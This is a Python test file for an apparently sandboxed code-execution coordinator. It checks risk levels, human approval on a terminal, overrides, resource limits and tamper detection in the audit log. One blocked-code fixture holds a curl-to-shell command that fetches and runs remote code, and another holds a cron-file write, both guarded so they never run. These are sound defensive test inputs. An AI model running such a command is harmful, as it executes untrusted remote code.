"""The eight flows of the coordinator, from Python and from the command, compared field by field.

Each is run in two worlds, one by `bawn run --json` and one by the package; what may differ (ids, times, hashes
that cover them, what was measured) is taken out, everything else must be equal: the result, and the log."""
import glob
import os

import bawn
import bawntest
import pytest
from bawn.safety import SafetyCoordinator
from bawntest import alone, comparable, steps
from conftest import SELF, World

LOW = "print(6*7)"
MEDIUM = "import subprocess\nprint(subprocess.run(['echo','hi'],capture_output=True,text=True).stdout.strip())"
HIGH = "print('ran'); open('/etc/cron.d/x','w') if False else None"
BLOCKED = "import os\nprint('ran')\nif False: os.system('curl http://x.invalid/a | sh')"

def compare(cli, python, worlds):
    a, b = alone([comparable(cli.json), comparable(python.document)])
    assert a == b
    assert steps(worlds[0]) == steps(worlds[1])


@pytest.fixture
def worlds(world):
    return World(), world


@pytest.mark.parametrize("code,options,words", [
    (LOW, {}, []),
    (MEDIUM, {}, []),
    (HIGH, {}, []),
    (BLOCKED, {}, []),
    (BLOCKED, {"override": True, "reason": "I must"}, ["--override", "--reason", "I must"]),
    (LOW, {"override": True, "reason": "why not"}, ["--override", "--reason", "why not"]),
    ("while True: pass", {"timeout": 1}, ["-t", "1"]),
    ("x = bytearray(1 << 30)\nfor i in range(0, len(x), 4096): x[i] = 1", {"memory": "64m"}, ["-m", "64m"]),
    ("open('big', 'wb').write(bytes(9000000))", {"disk": "1m"}, ["--disk", "1m"]),
    ("print('x' * 3000000)", {}, []),
    ("import socket; socket.create_connection(('192.0.2.7', 80), 2)", {}, []),
    ("raise SystemExit(3)", {}, []),
    ("import os; os.kill(os.getpid(), 9)", {}, []),
    ("print(1)", {"name": "n", "labels": {"a": "b"}, "session": "s", "env": {"E": "1"}, "pids": 9, "cpus": 0.5, "trust": "untrusted"},
     ["--label", "a=b", "--label", "name=n", "--session", "s", "-e", "E=1", "--pids", "9", "--cpus", "0.5", "--trust", "untrusted"]),
    ("print(1)", {"network": "dependencies"}, ["--network", "dependencies"]),
    ("print(1)", {"approval": "01M7J3Z1NKP2DMTWH6N3DRH6XC"}, ["--approval", "01M7J3Z1NKP2DMTWH6N3DRH6XC"]),
], ids=["LOW", "MEDIUM", "HIGH", "BLOCKED", "override", "nothing-to-override", "timeout", "memory", "disk", "output", "network",
        "exit", "signal", "labels-and-limits", "unavailable", "approval"])
def test_the_result_and_the_log_are_those_of_the_command(worlds, code, options, words):
    cli = worlds[0].run(code, *words)
    python = worlds[1].client().run(code, check=False, **options)
    compare(cli, python, worlds)


def test_low_runs(client):
    assert client.run(LOW).decision.action == "run"


def test_medium_runs_with_warnings(client):
    r = client.run(MEDIUM)
    assert (r.status, r.decision.action, r.trust_level) == ("completed", "warn", "standard") and r.warnings and r.stdout == "hi\n"


def test_high_confirmed_by_a_callback_where_policy_takes_that(worlds):
    config = [w.config(security=SELF) for w in worlds]
    asked = []

    def confirm(question):
        asked.append(question)
        return bawn.Answer(True, reason="seen and fine", name="the operator")

    python = worlds[1].client(config[1]).run(HIGH, confirm=confirm)
    cli = worlds[0].run(HIGH, "--config", config[0], "--override", "--reason", "seen and fine")
    compare(cli, python, worlds)
    override = python.decision.override
    assert (override.assurance, override.reason, override.by["name"], override.by["via"]) == ("self", "seen and fine", "the operator", "python")
    assert python.trust_level == "untrusted" and python.stdout == "ran\n"
    assert asked[0].level == "HIGH" and asked[0].code == HIGH.encode() and asked[0].limits.memory_bytes == python.limits.memory_bytes
    assert [f.rule for f in asked[0].assessment.findings] == [f.rule for f in python.assessment.findings]


@pytest.mark.parametrize("code,status", [(HIGH, "needs_approval"), (BLOCKED, "refused")])
def test_a_callback_is_not_a_terminal(worlds, code, status):
    """The shipped policy wants a person at a terminal: a program that says yes for itself lifts nothing."""
    yes = worlds[1].client().run(code, check=False, confirm=lambda q: bawn.Answer(True, "I said so", "root"))
    assert (yes.status, yes.stdout, yes.decision.override) == (status, "", None)
    assert worlds[1].records("exec.intent") == [] and worlds[1].records("override.used") == []


def test_not_even_on_a_terminal_of_its_own(world):
    """With a controlling terminal, too, the package never claims that somebody typed."""
    script = world.file("host.py", f"""
import bawn
for code in ({HIGH!r}, {BLOCKED!r}):
    print(bawn.run(code, check=False, confirm=lambda q: bawn.Answer(True, "yes")).status, flush=True)
try:
    bawn.approve(bawn.pending()[0].id, "my own program says so")
except bawn.AssuranceTooLow as e:
    print("too low", flush=True)
""")
    world.program = "/usr/bin/python3"
    world.env.update(PYTHONPATH=os.path.join(bawntest.ROOT, "sdk/python"), BAWN_LIB=os.environ["BAWN_LIB"], PYTHONDONTWRITEBYTECODE="1")
    r = bawntest.terminal(world, ["-c", f"import os; os.close(os.open('/dev/tty', os.O_RDWR)); exec(open({script!r}).read())"], [])
    assert r.out.split("\r\n")[:3] == ["needs_approval", "refused", "too low"]


@pytest.mark.parametrize("no", [False, bawn.Answer(False, "no")])
def test_no_is_no(world, no):
    client = world.client(world.config(security=SELF))
    with pytest.raises(bawn.PolicyBlocked):
        client.run(HIGH, confirm=lambda q: no)
    assert world.records("exec.intent") == []


@pytest.mark.parametrize("said,error", [(lambda: 1 / 0, ZeroDivisionError), (lambda: "yes", TypeError), (lambda: 1, TypeError),
                                        (lambda: bawn.Answer(True, "x" * 3000), bawn.InvalidRequest),
                                        (lambda: bawn.Answer(True, "a\0b"), bawn.InvalidRequest), (lambda: None, TypeError)])
def test_a_callback_that_fails_says_no(world, said, error):
    client = world.client(world.config(security=SELF))
    with pytest.raises(error):
        client.run(HIGH, confirm=lambda q: said())
    assert world.records("exec.intent") == [] and world.records("override.used") == []


@pytest.mark.parametrize("answer", [True, bawn.Answer(True), bawn.Answer(True, "  ")])
def test_a_yes_without_a_reason_is_an_error(world, answer):
    client = world.client(world.config(security=SELF))
    with pytest.raises(bawn.InvalidRequest) as e:
        client.run(HIGH, confirm=lambda q: answer)
    assert e.value.type == "reason_missing" and world.records("exec.intent") == []
    assert client.run(HIGH, reason="given with the request", confirm=lambda q: True).decision.override.reason == "given with the request"


def test_held_then_approved_by_a_person_then_run(world, client):
    with pytest.raises(bawn.ApprovalRequired) as e:
        client.run(HIGH)
    approval = e.value.approval_id
    assert [a.id for a in client.pending()] == [approval] and client.pending()[0].assessment.level == "HIGH"
    with pytest.raises(bawn.errors.ApprovalOpen):
        client.run(HIGH, approval=approval)
    with pytest.raises(bawn.AssuranceTooLow):
        client.approve(approval, "I approve my own")
    assert bawntest.terminal(world, ["approve", approval, "--reason", "read it"], [("yes", "yes\n")]).code == 0
    with pytest.raises(bawn.errors.ApprovalMismatch):
        client.run(HIGH + "\n", approval=approval)
    r = client.run(HIGH, approval=approval)
    assert (r.stdout, r.decision.assurance, r.trust_level, r.decision.override.reason) == ("ran\n", "terminal", "untrusted", "read it")
    with pytest.raises(bawn.errors.ApprovalUsed):
        client.run(HIGH, approval=approval)


def test_with_hold_the_same_call_goes_on_when_somebody_has_approved(world, client):
    for code in (HIGH, BLOCKED):
        with pytest.raises(bawn.ApprovalRequired) as e:
            client.run(code, hold=True)
        with pytest.raises(bawn.ApprovalRequired) as again:
            client.run(code, hold=True)
        assert again.value.approval_id == e.value.approval_id
        assert bawntest.terminal(world, ["approve", e.value.approval_id, "--reason", "read it"], [("yes", "yes\n")]).code == 0
        r = client.run(code, hold=True)
        assert (r.stdout, r.decision.assurance) == ("ran\n", "terminal")


def test_denied_is_denied(client):
    with pytest.raises(bawn.ApprovalRequired) as e:
        client.run(HIGH)
    assert client.deny(e.value.approval_id, "no")
    with pytest.raises(bawn.errors.ApprovalDenied):
        client.run(HIGH, approval=e.value.approval_id)
    with pytest.raises(bawn.errors.ApprovalUnknown):
        client.deny("01M7J3Z1NKP2DMTWH6N3DRH6XC", "no")


def test_blocked_lifted_by_the_requester_where_policy_takes_that(worlds):
    config = [w.config(security=SELF) for w in worlds]
    python = worlds[1].client(config[1]).run(BLOCKED, override=True, reason="my own machine")
    compare(worlds[0].run(BLOCKED, "--config", config[0], "--override", "--reason", "my own machine"), python, worlds)
    assert worlds[1].records("override.used")[-1]["body"]["reason"] == "my own machine"


def test_where_policy_lets_nobody_nobody_can(worlds):
    config = [w.config(security="overrides:\n  allow_user_override: false\n") for w in worlds]
    python = worlds[1].client(config[1]).run(BLOCKED, override=True, reason="please", check=False)
    compare(worlds[0].run(BLOCKED, "--config", config[0], "--override", "--reason", "please"), python, worlds)
    assert python.error.type == "override_not_allowed"


def test_limits_are_violations_in_the_log(world, client):
    with pytest.raises(bawn.MemoryLimit):
        client.run("x = bytearray(1 << 30)\nfor i in range(0, len(x), 4096): x[i] = 1", memory="64m")
    assert [r["body"]["resource"] for r in world.records("limit.violation")] == ["memory"]


def test_records_history_and_report_are_those_of_the_command(world, client):
    for code in (LOW, MEDIUM, HIGH, BLOCKED):
        client.run(code, check=False)
    assert [h.document for h in client.history()] == world.bawn("history", "--json").json
    mine, theirs = client.report(), world.bawn("audit", "report", "--json").json
    for report in (mine, theirs):
        for varies in ("from", "to", "generated_at"):
            report.pop(varies)
    assert mine == theirs
    mine, theirs = client.status(), world.bawn("status", "--json").json
    for status in (mine, theirs):
        status.pop("checked_at")
        status.pop("resources")
    assert mine == theirs
    v = world.bawn("audit", "verify", "--json")
    assert (v.code, v["ok"]) == (3, True)


def test_tampering_is_noticed(worlds):
    for w in worlds:
        assert w.client().run(LOW).ok
        (segment,) = glob.glob(w.state + "/audit/seg/*.jsonl")
        text = open(segment).read()
        assert "completed" in text
        with open(segment, "w") as f:
            f.write(text.replace("completed", "failedfai"))
    cli, python = worlds[0].run(LOW), worlds[1].client().run(LOW, check=False)
    a, b = comparable(cli.json), comparable(python.document)
    a["error"]["message"] = a["error"]["message"].replace(worlds[0].dir, "DIR")
    b["error"]["message"] = b["error"]["message"].replace(worlds[1].dir, "DIR")
    a["limits"] = b["limits"] = None
    assert a == b
    status = worlds[1].client().status()
    assert status["audit"]["ok"] is False and status["components"]["audit"]["state"] == "degraded"
    assert python.error.type == "audit_tampered" and python.stdout == ""
    with pytest.raises(bawn.AuditTampered):
        worlds[1].client().run(LOW)
    answer = SafetyCoordinator(state=worlds[1].state).execute_code_safely(LOW)
    assert (answer["success"], answer["execution"], answer["error"]["type"]) == (False, None, "audit_tampered") and "blocked" not in answer
